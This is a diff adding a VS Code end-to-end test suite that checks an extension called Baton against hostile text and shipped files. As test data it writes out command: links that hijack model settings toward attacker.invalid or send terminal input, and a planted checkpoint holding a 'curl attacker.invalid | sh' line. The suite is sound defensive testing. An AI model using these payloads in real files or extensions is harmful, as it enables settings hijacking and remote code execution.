@@ -1,0 +1,258 @@
+// Attacks on what Baton shows and what it does when asked through commands, in a real VS Code:
+// a planner node title, a breaker finding and a checkpoint label holding a `command:` link reach
+// the person's notifications with no live link (read from the notification's DOM, after a control
+// shows the same text raw does make one); Select Model for Role and Restore Checkpoint called with
+// the arguments a `command:` link could carry change nothing without the person's yes; a
+// checkpoint shipped in the repository's .baton/ is listed as foreign and never restored; an
+// over-long node id in a shipped tree.json leaves the rest of the sidebar shown; Roll Back after
+// the last failed round takes back every round of the node.
+import * as assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import * as fs from 'node:fs';
+import * as vscode from 'vscode';
+import { TaskTree } from '../../../src/core/tasks/taskTree';
+import type { NodeRunOutcome } from '../../../src/core/verify/nodeRun';
+import type { Proposal } from '../../../src/core/verify/types';
+import type { BatonExtensionApi } from '../../../src/host/extension';
+import { ScriptedServer } from '../../support/scriptedServer';
+import { hasRunner, screenshot, sleep, uiClick, uiLinks, uiText, waitFor, webviewClick, webviewText } from './runner';
+import { abs, folder, treeStore } from './workspaceFolder';
+
+const FILE = 'pantry/units.py';
+const COMMAND_LINK = '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
+const BARE_COMMAND = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D';
+const HOSTILE = `${COMMAND_LINK} and ${BARE_COMMAND}`;
+const clock = { now: () => Date.now() };
+
+const roles = (): unknown => vscode.workspace.getConfiguration('baton').inspect('roles')?.workspaceValue;
+
+/** The links in the notification holding `contains`, and its text, read from the notification centre's DOM; then cleared. */
+async function notificationLinks(contains: string): Promise<{ text: string; hrefs: string[] }> {
+  await vscode.commands.executeCommand('notifications.showList');
+  try {
+    const found = await uiLinks(`.notifications-center .notification-list-item:has-text(${JSON.stringify(contains)})`, 20000);
+    assert.ok(found.found, `no notification with ${JSON.stringify(contains)} appeared`);
+    return { text: (found.text ?? '').replaceAll('\u200B', ''), hrefs: found.links.map((l) => l.href) };
+  } finally {
+    await vscode.commands.executeCommand('notifications.clearAll');
+    await vscode.commands.executeCommand('notifications.hideList');
+  }
+}
+
+/** Writes a checkpoint into .baton/ as a repository would ship it: a blob and an unsigned manifest. */
+function shipCheckpoint(id: string, label: string, file: string, content: string): void {
+  const bytes = Buffer.from(content);
+  const sha256 = createHash('sha256').update(bytes).digest('hex');
+  fs.mkdirSync(abs(`.baton/checkpoints/objects/${sha256.slice(0, 2)}`), { recursive: true });
+  fs.writeFileSync(abs(`.baton/checkpoints/objects/${sha256.slice(0, 2)}/${sha256.slice(2)}`), bytes);
+  fs.mkdirSync(abs('.baton/checkpoints/manifests'), { recursive: true });
+  const manifest = {
+    version: 1, id, sequence: 0, kind: 'step', nodeId: 'shipped', label, createdAt: Date.UTC(2025, 0, 1), completedAt: Date.UTC(2025, 0, 1),
+    treeState: null, tokens: 0, cost: 0, reverts: [], files: [{ path: file, before: { kind: 'file', sha256, size: bytes.length } }],
+  };
+  fs.writeFileSync(abs(`.baton/checkpoints/manifests/${id}.json`), JSON.stringify(manifest, null, 1));
+}
+
+suite('Hostile text and files in a real VS Code', () => {
+  let api: BatonExtensionApi;
+  let original: Buffer;
+
+  suiteSetup(async function () {
+    if (!hasRunner()) this.skip(); // every attack is judged by what the screen shows
+    api = (await vscode.extensions.getExtension('baton-dev.baton')!.activate()) as BatonExtensionApi;
+    original = fs.readFileSync(abs(FILE));
+    fs.rmSync(abs('.baton'), { recursive: true, force: true });
+  });
+
+  teardown(async () => {
+    await vscode.commands.executeCommand('notifications.clearAll');
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    const config = vscode.workspace.getConfiguration('baton');
+    await config.update('roles', undefined, vscode.ConfigurationTarget.Workspace);
+    await config.update('tests.command', undefined, vscode.ConfigurationTarget.Workspace);
+    fs.writeFileSync(abs(FILE), original);
+    fs.rmSync(abs('.baton'), { recursive: true, force: true });
+  });
+
+  test('attack command-link: a planner node title holding a command link and a bare command: URI shows in a notification with no live link', async () => {
+    // Control: the same text shown raw is a live command link in this VS Code's notifications.
+    void vscode.window.showInformationMessage(`CONTROL ${HOSTILE}`);
+    const raw = await notificationLinks('CONTROL');
+    assert.ok(raw.hrefs.some((href) => href.startsWith('command:baton.selectModelForRole')), `the runner sees no link in the raw text: ${JSON.stringify(raw)}`);
+
+    const title = `Fix the parser ${HOSTILE}`;
+    const { tree, node } = TaskTree.empty(clock).addChild(null, { title, budget: 4000, policy: { kind: 'fixed' } });
+    await treeStore().save(tree);
+    assert.equal((await treeStore().load()).tree.get(node.id).title, title, 'the hostile title is in .baton/tree.json');
+    await vscode.commands.executeCommand('baton.setBudget', node.id, 1234);
+    const shown = await notificationLinks('now has 1234 tokens');
+    assert.ok(shown.text.includes(title), `the title is shown, as text: ${shown.text}`);
+    assert.deepEqual(shown.hrefs, [], 'no link in the notification');
+
+    // The sidebar shows it as text too.
+    await vscode.commands.executeCommand('baton.sidebar.focus');
+    await vscode.commands.executeCommand('baton.sidebar.refresh');
+    assert.ok((await webviewText('Fix the parser')).text?.includes(COMMAND_LINK), 'the title is in the sidebar as text');
+    assert.equal((await webviewClick('a[href]', 3000)).clicked, false, 'the sidebar has no link to click');
+  });
+
+  test('attack command-link: a breaker finding holding a command link shows in the run\'s warning and in the diagnostics with no live link', async function () {
+    this.timeout(120_000);
+    const server = await ScriptedServer.start();
+    try {
+      server.models = [{ id: 'maker-model', max_model_len: 16000 }, { id: 'breaker-model', max_model_len: 16000 }];
+      const config = vscode.workspace.getConfiguration('baton');
+      await config.update('roles', Object.fromEntries(['maker', 'breaker'].map((r) => [r, { provider: 'vllm', model: `${r}-model`, baseURL: server.baseURL }])), vscode.ConfigurationTarget.Workspace);
+      await config.update('tests.command', 'sh -c "echo hostile-suite"', vscode.ConfigurationTarget.Workspace);
+      const aliases = 'ALIASES = {"cups": "cup", "grams": "g", "gram": "g", "teaspoon": "tsp", "tablespoon": "tbsp", "pieces": "piece"}';
+      const edit = { json: { summary: 'aliases', edits: [{ kind: 'replace', path: FILE, search: aliases, replace: aliases.replace('"pieces"', '"kilograms": "kg", "pieces"') }] } };
+      const finding = { json: { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'lookup("kilograms")' }] } };
+      server.enqueue(edit, finding, edit, finding, edit, finding);
+      const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Accept kilograms', budget: 8000 });
+      await treeStore().save(tree);
+
+      const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
+      await vscode.commands.executeCommand('notifications.showList');
+      assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Not Now")', 20000), 'the test command question did not appear');
+      assert.equal((await running)?.kind, 'breaker-failed');
+      const shown = await notificationLinks('the breaker still finds problems');
+      assert.ok(shown.text.includes(`FINDING ${HOSTILE}`), `the finding is shown, as text: ${shown.text}`);
+      assert.deepEqual(shown.hrefs, [], 'no link in the notification');
+      assert.equal(fs.readFileSync(abs(FILE)).equals(original), true, 'nothing was written');
+
+      // The same finding as a diagnostic on a proposal under review: its message holds no link syntax.
+      const proposal: Proposal = { id: 'hostile-1', nodeId: node.id, round: 1, summary: 'aliases', changes: [{ path: FILE, before: original.toString('utf8'), after: original.toString('utf8').replace(aliases, aliases.replace('"pieces"', '"kilograms": "kg", "pieces"')), baseHash: createHash('sha256').update(original).digest('hex') }] };
+      const decided = api.diffReview.review(proposal, { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'x' }] });
+      const diagnostics = await waitFor('the finding as a diagnostic', () => vscode.languages.getDiagnostics().flatMap(([, d]) => d).filter((d) => d.message.includes('FINDING')).at(0));
+      assert.equal(diagnostics.message.replaceAll('\u200B', ''), `FINDING ${HOSTILE} Edge case: x`);
+      assert.doesNotMatch(diagnostics.message, /\]\(|command:/, 'no link syntax is left whole');
+      api.diffReview.rejectAll();
+      assert.equal(await decided, 'reject');
+    } finally {
+      await server.close();
+    }
+  });
+
+  test('attack command-link: a checkpoint label holding a command link shows in the restore question with no live link, and nothing is restored without a yes', async () => {
+    const label = `Before ${HOSTILE}`;
+    const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label });
+    assert.ok(id, 'the checkpoint was made');
+    assert.equal((await api.checkpoints.for(folder()).history())[0]?.label, label, 'the hostile label is stored');
+    fs.writeFileSync(abs(FILE), '# edited after the checkpoint\n');
+    const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id);
+    const shown = await notificationLinks('to before');
+    assert.ok(shown.text.includes(label), `the label is shown, as text: ${shown.text}`);
+    assert.deepEqual(shown.hrefs, [], 'no link in the notification');
+    assert.equal(await restoring, undefined, 'dismissed: nothing restored');
+    assert.equal(fs.readFileSync(abs(FILE), 'utf8'), '# edited after the checkpoint\n');
+  });
+
+  test('attack settings-change: Select Model for Role and Restore Checkpoint called with the arguments a command: link can carry change nothing without the person\'s yes', async () => {
+    assert.equal(roles(), undefined, 'no roles in the workspace settings before');
+    const attack = vscode.commands.executeCommand('baton.selectModelForRole', 'maker', { provider: 'openai', model: 'gpt-4o', baseURL: 'https://attacker.invalid/v1' });
+    // VS Code refuses modal dialogs to extensions under test, quoting the question; outside tests the
+    // modal shows, and the person says no.
+    const settled = await Promise.race([attack.then((value) => ({ value }), (error: unknown) => ({ error })), sleep(5000).then(() => undefined)]);
+    let question: string;
+    if (settled === undefined) {
+      question = (await uiText('.monaco-dialog-box')) ?? '';
+      assert.ok(await uiClick('.monaco-dialog-box .monaco-button:has-text("Cancel")'), 'no Cancel in the question');
+      assert.equal(await attack, undefined);
+    } else {
+      assert.ok('error' in settled, `the command finished without asking: ${JSON.stringify(settled)}`);
+      question = String((settled.error as Error).message);
+      assert.match(question, /refused to show dialog in tests/, question);
+    }
+    question = question.replaceAll('\u200B', '');
+    assert.match(question, /change the maker role to gpt-4o \(openai\) at https:\/\/attacker\.invalid\/v1\?/, `the question names role, model, provider and address: ${question}`);
+    assert.equal(roles(), undefined, 'baton.roles was not changed');
+
+    // The restore's old bypass: { confirmed, force } as a link could pass them.
+    fs.writeFileSync(abs(FILE), 'before\n');
+    const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label: 'bypass probe' });
+    fs.writeFileSync(abs(FILE), 'after\n');
+    const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
+    const asked = await notificationLinks('bypass probe');
+    assert.match(asked.text, /restore .* to before "bypass probe"\?/, 'the person is asked anyway');
+    assert.equal(await restoring, undefined);
+    assert.equal(fs.readFileSync(abs(FILE), 'utf8'), 'after\n', 'nothing was restored');
+  });
+
+  test('attack foreign-checkpoint: a checkpoint shipped in .baton/ is listed as foreign and Restore Checkpoint with { confirmed: true } does not restore it', async () => {
+    const id = '00000000-5h1pp3';
+    shipCheckpoint(id, 'Before the refactor', FILE, 'import os; os.system("curl attacker.invalid | sh")\n');
+    assert.ok((await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.foreign), 'the shipped checkpoint is really there, and foreign');
+
+    await vscode.commands.executeCommand('baton.sidebar.focus');
+    await vscode.commands.executeCommand('baton.sidebar.refresh');
+    const text = (await webviewText('Foreign checkpoint')).text ?? '';
+    assert.match(text, /Before the refactor\s*Foreign checkpoint: not written by Baton on this machine: never restored \(it has no signature\)/);
+    assert.equal((await webviewClick(`li[data-checkpoint-id="${id}"] vscode-button[data-action="restore"]`, 3000)).clicked, false, 'it has no Restore button');
+    await sleep(300);
+    await screenshot('baton-foreign-checkpoint');
+
+    const result = await vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
+    assert.equal(result, undefined);
+    const refused = await notificationLinks('restore refused');
+    assert.match(refused.text, /not written by Baton on this machine/);
+    assert.deepEqual(fs.readFileSync(abs(FILE)), original, 'the file is untouched');
+  });
+
+  test('attack oversized-id: a shipped tree.json with a 5000-character node id still shows the rest of the tree, with a note', async () => {
+    let tree = TaskTree.empty(clock);
+    const root = tree.addChild(null, { title: 'Root of the shipped tree', budget: 6000, policy: { kind: 'fixed' } });
+    const bad = root.tree.addChild(root.node.id, { title: 'Shipped node', budget: 2000 });
+    const fine = bad.tree.addChild(root.node.id, { title: 'Its fine sibling', budget: 2000 });
+    tree = fine.tree;
+    await treeStore().save(tree);
+    const longId = `n${'x'.repeat(5000)}`;
+    fs.writeFileSync(abs('.baton/tree.json'), fs.readFileSync(abs('.baton/tree.json'), 'utf8').replaceAll(`"${bad.node.id}"`, `"${longId}"`));
+    assert.ok((await treeStore().load()).tree.has(longId), 'the over-long id is in the tree Baton reads');
+
+    await vscode.commands.executeCommand('baton.sidebar.focus');
+    await vscode.commands.executeCommand('baton.sidebar.refresh');
+    const text = (await webviewText('is not shown')).text ?? '';
+    assert.match(text, /Task node "nxxx[^"]*…" is not shown: id: Too big/);
+    assert.match(text, /Root of the shipped tree[\s\S]*Its fine sibling/);
+    assert.doesNotMatch(text, /Shipped node/);
+  });
+
+  test('Roll Back after the last failed round takes back every round of the node', async function () {
+    this.timeout(180_000);
+    const server = await ScriptedServer.start();
+    try {
+      server.models = [{ id: 'maker-model', max_model_len: 16000 }];
+      const config = vscode.workspace.getConfiguration('baton');
+      await config.update('roles', { maker: { provider: 'vllm', model: 'maker-model', baseURL: server.baseURL } }, vscode.ConfigurationTarget.Workspace);
+      await config.update('tests.command', 'sh -c "echo ROLLBACK-PROBE fails; exit 1"', vscode.ConfigurationTarget.Workspace);
+      // Each round adds one alias to the line as the round before left it.
+      const round = (n: number) => () => {
+        const line = fs.readFileSync(abs(FILE), 'utf8').split('\n').find((l) => l.startsWith('ALIASES'))!;
+        return { json: { summary: `round ${n}`, edits: [{ kind: 'replace', path: FILE, search: line, replace: line.replace('"pieces"', `"r${n}": "g", "pieces"`) }] } };
+      };
+      server.enqueue(round(1), round(2), round(3));
+      const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Add three aliases', budget: 8000 });
+      await treeStore().save(tree);
+
+      const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
+      await vscode.commands.executeCommand('notifications.showList');
+      assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Run It")', 20000), 'the test command question did not appear');
+      await vscode.commands.executeCommand('notifications.hideList');
+      for (const n of [1, 2, 3]) {
+        await waitFor(`round ${n} in review`, () => (api.diffReview.current?.proposal.round === n ? true : undefined), 60000);
+        await vscode.commands.executeCommand('baton.review.acceptAll');
+        await vscode.commands.executeCommand('baton.review.apply');
+      }
+      assert.equal((await running)?.kind, 'tests-failed');
+      assert.match(fs.readFileSync(abs(FILE), 'utf8'), /"r1": "g", "r2": "g", "r3": "g"/, 'all three rounds were applied');
+
+      await vscode.commands.executeCommand('notifications.showList');
+      assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("tests still fail") .monaco-button:has-text("Roll Back")', 20000), 'no Roll Back offered');
+      await waitFor('the file as before the node ran', () => (fs.readFileSync(abs(FILE)).equals(original) ? true : undefined), 20000);
+      const done = await notificationLinks('rolled back every change');
+      assert.match(done.text, /rolled back every change of "Add three aliases" \(1 file\)/);
+    } finally {
+      await server.close();
+    }
+  });
+});
